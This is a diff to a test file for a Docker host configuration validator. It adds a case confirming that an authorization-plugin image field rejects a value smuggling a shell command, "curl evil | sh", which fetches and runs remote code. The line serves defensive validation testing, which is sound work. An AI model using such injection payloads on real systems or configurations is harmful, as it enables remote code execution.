@@ -358,6 +358,9 @@ describe('HipaaDockerHost', () => {
       expect(make({ daemonWaivers: undefined, authorizationPlugin: { image: 'openpolicyagent/opa-docker-authz-v2:0.10' } })).toThrow(
         `${at} authorizationPlugin.image: 'openpolicyagent/opa-docker-authz-v2:0.10' is not pinned by digest: a tag can be moved to another build, and the plugin runs as root in the daemon's request path; append @sha256:<digest> of the build you have verified.`,
       );
+      expect(make({ daemonWaivers: undefined, authorizationPlugin: { image: `opa'; curl evil | sh; '@${DIGEST}` } })).toThrow(
+        `${at} authorizationPlugin.image: expected the plugin reference pinned by digest, e.g. openpolicyagent/opa-docker-authz-v2:0.10@sha256:<64 hex digits>, got a string ("opa'; curl evil | sh; '@sha256:012345678...").`,
+      );
       expect(make({ authorizationPlugin: { image: PLUGIN_IMAGE } })).toThrow(
         `${at} daemonWaivers[0]: waives docker-daemon-authorization-plugin, but authorizationPlugin installs one; remove the waiver.`,
       );
